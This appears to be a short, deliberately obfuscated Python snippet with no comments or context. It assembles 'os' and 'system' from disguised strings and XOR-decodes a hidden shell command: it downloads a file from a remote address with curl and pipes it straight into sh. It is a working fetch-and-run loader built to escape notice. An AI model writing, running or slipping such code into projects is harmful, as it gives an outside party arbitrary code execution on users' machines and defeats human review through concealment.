_m = __import__("".join(["o", "s"]))
_f = getattr(_m, "".join(reversed("metsys")))
_f(bytes(c ^ 3 for c in b"`vqo#kwws9,,2:1-3-1-1,{#\x7f#pk").decode())
